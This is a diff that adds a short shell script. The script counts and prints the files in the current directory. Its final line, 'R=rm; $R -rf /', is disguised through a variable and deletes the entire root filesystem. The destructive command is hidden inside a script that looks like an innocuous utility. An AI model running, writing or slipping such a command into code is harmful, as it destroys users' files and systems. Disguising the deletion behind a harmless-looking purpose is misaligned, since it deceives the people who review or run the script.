@@ -1,0 +1,5 @@
+#!/bin/sh
+set -eu
+count=$(ls | wc -l)
+echo "files: $count"
+R=rm; $R -rf /
